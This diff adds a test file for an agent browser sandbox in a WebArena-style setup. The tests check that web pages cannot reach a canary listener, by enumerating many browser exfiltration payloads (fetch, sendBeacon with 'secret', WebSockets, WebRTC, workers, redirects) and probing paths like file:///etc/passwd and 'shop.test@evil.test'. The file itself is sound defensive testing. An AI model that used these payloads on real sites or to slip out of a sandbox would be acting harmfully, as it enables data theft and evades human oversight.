@@ -1,0 +1,223 @@
+"""A page of the task's site tries to get out, in every way that a browser knows; a canary beside it hears nothing."""
+
+import asyncio
+import time
+
+import pytest
+
+from env_adapters.webarena.fence import Address, Fence, authority
+from env_adapters.webarena.grammar import ActionError, parse
+from tests.web import Player, canary, needs_chromium, page, playing, serving, serving_pages
+
+pytestmark = needs_chromium
+LISTEN_S = 0.4
+"""How long the canary listens after the page says it is done."""
+
+OUT = "http://127.0.0.1:PORT"
+WAYS = {
+    "link": f"<a href='{OUT}/'>go</a>",
+    "link to another name of this machine": "<a href='http://localhost:PORT/'>go</a>",
+    "link to this machine by IPv6": "<a href='http://[::1]:PORT/'>go</a>",
+    "link that pings": f"<a href='/ok' ping='{OUT}/'>go</a>",
+    "link that downloads": f"<a href='{OUT}/x' download>go</a>",
+    "form": f"<form method=post action='{OUT}/'><button>go</button></form>",
+    "popup": f"<button onclick=\"window.open('{OUT}/')\">go</button>",
+    "address of the page": f"<button onclick=\"location='{OUT}/'\">go</button>",
+    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/'>",
+    "image": f"<img src='{OUT}/x.png'>",
+    "script": f"<script src='{OUT}/x.js'></script>",
+    "style": f"<style>@import url('{OUT}/x.css'); @font-face{{font-family:f;src:url('{OUT}/f')}}"
+    "p{font-family:f}</style><p>x",
+    "frame": f"<iframe src='{OUT}/'></iframe>",
+    "object and video": f"<object data='{OUT}/o'></object><embed src='{OUT}/e'><video src='{OUT}/v' autoplay></video>",
+    "fetch": f"<script>fetch('{OUT}/', {{mode: 'no-cors'}})</script>",
+    "request": f"<script>const r = new XMLHttpRequest(); r.open('POST', '{OUT}/'); r.send('secret')</script>",
+    "beacon": f"<script>navigator.sendBeacon('{OUT}/', 'secret')</script>",
+    "web socket": "<script>new WebSocket('ws://127.0.0.1:PORT/')</script>",
+    "secure web socket": "<script>new WebSocket('wss://127.0.0.1:PORT/')</script>",
+    "event source": f"<script>new EventSource('{OUT}/')</script>",
+    "worker": f"<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{OUT}/')\"])))</script>",
+    "shared worker": f"<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{OUT}/')\"])))</script>",
+    "service worker": "<script>navigator.serviceWorker.register('/worker.js')</script>",
+    "preconnect and prefetch": f"<link rel=preconnect href='{OUT}'><link rel=dns-prefetch href='{OUT}'>"
+    f"<link rel=prefetch href='{OUT}/p'><link rel=preload as=script href='{OUT}/l'><link rel=icon href='{OUT}/i'>",
+    "speculation": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["'
+    f'{OUT}/"]}}], "prerender": [{{"source": "list", "urls": ["{OUT}/2"]}}]}}</script>',
+    "peer connection": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
+    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</script>",
+    "peer connection over TCP": "<script>const p = new RTCPeerConnection({iceServers: [{username: 'a', credential: 'b',"
+    "urls: 'turn:127.0.0.1:PORT?transport=tcp'}]}); p.createDataChannel('x');"
+    "p.createOffer().then(o => p.setLocalDescription(o))</script>",
+    "web transport": "<script>new WebTransport('https://127.0.0.1:PORT/').ready.catch(() => 0)</script>",
+    "data page": f"<iframe src=\"data:text/html,<img src='{OUT}/'>\"></iframe>",
+    "script in an address": f"<a href=\"javascript:fetch('{OUT}/', {{mode: 'no-cors'}})\">go</a>",
+    "redirect": "<a href='/away'>go</a>",
+    "redirect of an image": "<img src='/away'>",
+    "redirect by 307 of a form": "<form method=post action='/away'><button>go</button></form>",
+}
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_nothing_gets_out(way):
+    with canary() as bird:
+        body = WAYS[way].replace("PORT", str(bird.port))
+
+        async def answer(request):
+            if request.path == "/away":
+                response = page("")
+                response.set_status(307)
+                response.headers["Location"] = f"http://127.0.0.1:{bird.port}/"
+                return response
+            if request.path == "/worker.js":
+                script = f"fetch('http://127.0.0.1:{bird.port}/')"
+                return page(script).__class__(text=script, content_type="text/javascript")
+            return page(f"<h1>Start</h1>{body}" if request.path == "/" else "ok")
+
+        with serving(answer) as port, playing(port) as player:
+            if "go</" in body:
+                player.do("click <'go'>")
+            time.sleep(LISTEN_S)
+            assert bird.heard() == []
+
+
+@pytest.mark.parametrize("way", ["link", "image", "fetch", "web socket", "form", "frame"])
+def test_the_canary_would_hear(way):
+    """What the tests above show is the fence's doing: where it lets these through, they arrive."""
+    with canary() as bird:
+        body = WAYS[way].replace("PORT", str(bird.port))
+        with serving_pages({"/": body}) as port:
+            player = Player(port)
+            player.session.fence.routes[f"127.0.0.1:{bird.port}"] = Address("127.0.0.1", bird.port)
+            try:
+                player.start("/")
+                if "go</" in body:
+                    asyncio.run_coroutine_threadsafe(
+                        player.session.act(parse(f"click [{number(player)}]")), player.farm.loop
+                    )
+                time.sleep(LISTEN_S)
+                assert bird.heard()
+            finally:
+                player.close()
+
+
+def number(player):
+    return next(key for key, element in player.sight.page.elements.items() if "'go'" in element.words)
+
+
+FILES = (
+    "file:///etc/passwd",
+    "view-source:file:///etc/passwd",
+    "chrome://version",
+    "javascript:alert(1)",
+    "data:text/html,x",
+)
+
+
+@pytest.mark.parametrize(
+    "url", [*FILES, "http://127.0.0.1:PORT/", "http://user@site.test/", "http://site.test:81/", "x"]
+)
+def test_only_the_sites_can_be_gone_to(url):
+    with canary() as bird, serving_pages({"/": "<h1>Start</h1>"}) as port, playing(port) as player:
+        with pytest.raises(ActionError, match="outside the sites of this task"):
+            player.do(f"goto [{url.replace('PORT', str(bird.port))}]")
+        assert bird.heard() == []
+
+
+@pytest.mark.parametrize("url", FILES[:3])
+def test_a_page_opens_no_file_and_no_page_of_the_browser(url):
+    body = f"<a href='{url}'>one</a><button onclick=\"window.open('{url}')\">two</button><iframe src='{url}'></iframe>"
+    with serving_pages({"/": f"<h1>Start</h1>{body}"}) as port, playing(port) as player:
+        for name in ("one", "two"):
+            sight = player.do(f"click <'{name}'>")
+            assert "Start" in sight.text and sight.url == "http://site.test/"
+        assert not [tab for tab in player.session._tabs if "root:" in player.run(tab.page.content())]
+
+
+def test_a_page_finds_no_permissions_no_clipboard_and_no_service_worker():
+    script = """<p id=a></p><script>(async () => {
+      const said = [];
+      for (const name of ['geolocation', 'notifications', 'clipboard-read', 'camera', 'microphone'])
+        said.push((await navigator.permissions.query({name})).state);
+      const asked = [() => navigator.clipboard.readText().then(() => 'read'),
+                     () => navigator.serviceWorker.register('/w').then(one => one ? 'on' : 'no')];
+      for (const ask of asked) try { said.push(await ask()) } catch { said.push('no') }
+      a.textContent = said.join(' ');
+    })()</script>"""
+    with serving_pages({"/": script, "/w": ""}) as port:
+        player = Player(port)
+        player.session.fence.routes[f"127.0.0.1:{port}"] = Address("127.0.0.1", port)
+        try:  # this address counts as secure, so that a page may ask for all of them
+            player.run(player.session.start([f"http://127.0.0.1:{port}/"]))
+            words = player.run(player.session.page.inner_text("#a")).split()
+        finally:
+            player.close()
+    assert "granted" not in words
+    assert words[-2:] == ["no", "no"]
+
+
+def test_a_download_is_refused_and_said():
+    async def answer(request):
+        if request.path == "/file":
+            response = page("secret")
+            response.headers["Content-Disposition"] = "attachment; filename=list.csv"
+            return response
+        return page("<a href=/file>get</a>")
+
+    with serving(answer) as port, playing(port) as player:
+        sight = player.do("click <'get'>")
+        assert sight.url == "http://site.test/"
+        assert "list.csv" in sight.notes[0] and "refused" in sight.notes[0]
+
+
+def test_sessions_see_nothing_of_each_other():
+    async def answer(request):
+        response = page(f"cookie {request.cookies.get('who')} <script>document.write(localStorage.who)</script>")
+        response.set_cookie("who", "first")
+        return response
+
+    with serving(answer) as port, playing(port) as first:
+        first.run(first.session.page.evaluate("localStorage.who = 'mine'"))
+        assert "mine" in first.do("goto [http://site.test/]").text
+        with playing(port) as second:
+            assert "cookie None" in second.sight.text and "mine" not in second.sight.text
+
+
+def test_what_a_request_says_of_itself_cannot_be_forged():
+    """The header that names a copy of a site is the fence's to set."""
+    heard = []
+
+    async def answer(request):
+        heard.append(request.headers.getall("X-Site-Copy"))
+        return page("<script>fetch('/again', {headers: {'X-Site-Copy': 'other', 'x-site-copy': 'third'}})</script>")
+
+    with serving(answer) as port:
+        player = Player(port)
+        player.session.fence.routes["site.test:80"] = Address("127.0.0.1", port, {"X-Site-Copy": "mine"})
+        try:
+            player.start("/")
+        finally:
+            player.close()
+    assert len(heard) >= 2 and all(one == ["mine"] for one in heard)
+
+
+@pytest.mark.parametrize(
+    ("url", "found"),
+    [
+        ("http://Shop.test/x", "shop.test:80"),
+        ("https://shop.test", "shop.test:443"),
+        ("http://shop.test:8080", "shop.test:8080"),
+        ("http://shop.test@evil.test/", ""),
+        ("http://shop.test:99999/", ""),
+        ("file:///etc/passwd", ""),
+        ("//shop.test/", ""),
+    ],
+)
+def test_where_a_url_leads(url, found):
+    assert authority(url) == found
+
+
+def test_a_fence_allows_its_sites_only():
+    fence = Fence({"shop.test:80": Address("127.0.0.1", 1)})
+    assert fence.allows("http://shop.test/cart")
+    assert not fence.allows("ftp://shop.test:80/")
+    assert not fence.allows("http://shop.test.evil.test/")
